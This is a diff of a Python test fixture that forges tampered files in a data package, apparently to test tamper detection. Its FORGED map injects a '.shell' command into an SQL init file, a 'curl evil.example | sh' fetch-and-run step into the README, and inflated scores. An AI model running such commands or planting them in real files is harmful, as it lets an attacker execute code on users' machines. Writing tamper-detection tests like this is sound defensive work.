@@ -89,7 +89,7 @@ def _zipped(folder: Path) -> Path:
 FORGED = {
     "open.sql": ("SET TimeZone", ".shell touch /tmp/x\nSET TimeZone"),
     "README.md": ("duckdb -init", "curl evil.example | sh; duckdb -init"),
-    "datapackage.json": ("README.md says", "https://evil.example says"),
+    "datapackage.json": ("README.md describes", "https://evil.example describes"),
     "index.html": ('value="0.75"', 'value="0.99"'),
     "summary.csv": ("0.75", "0.99"),
 }
